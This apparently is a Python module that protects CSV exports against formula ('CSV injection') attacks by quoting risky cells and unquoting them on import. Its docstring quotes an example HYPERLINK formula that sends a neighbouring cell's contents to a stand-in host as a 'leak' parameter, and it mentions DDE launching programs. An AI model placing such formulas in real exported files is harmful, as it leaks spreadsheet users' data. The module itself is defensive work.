"""CSV cells a spreadsheet cannot run as formulas ("CSV injection"), and their reading back.

Excel, LibreOffice and Google Sheets run a CSV cell that starts with ``=``, ``+``,
``-`` or ``@`` as a formula (``=HYPERLINK("http://x.example/?leak="&A1, "click")``
sends a neighbouring cell away when clicked; ``=DDE(...)`` can start a program), and a
tab or carriage return at the start can hide such a cell. A stakeholder's name or tag
comes from workshops and imported files, so every CSV we write follows the OWASP
guidance: a text cell that starts with one of these characters is written with a
single quote before it, which spreadsheets show as text. Numbers, dates and true/false
are never quoted: a position of -2 stays the number -2.

Our CSV import removes that quote again, so an export reads back as it was written. To
keep the round trip exact, a text that itself starts with quotes followed by one of
these characters (``'=x``) gets one more quote, and reading removes exactly one.
"""

from __future__ import annotations

from typing import Any

__all__ = ["FORMULA_STARTS", "quote_formula", "unquote_formula"]

#: First characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_STARTS = frozenset("=+-@\t\r")


def _formula_like(text: str) -> bool:
    return text.lstrip("'")[:1] in FORMULA_STARTS and text.lstrip("'") != ""


def quote_formula(value: Any, text: str) -> str:
    """``text`` (the cell written for ``value``) with a quote before it if it is text that
    a spreadsheet would run; numbers, dates and booleans are left as they are."""
    return "'" + text if isinstance(value, str) and _formula_like(text) else text


def unquote_formula(text: str) -> str:
    """A CSV cell as it was before :func:`quote_formula`: one leading quote removed."""
    return text[1:] if text.startswith("'") and _formula_like(text) else text
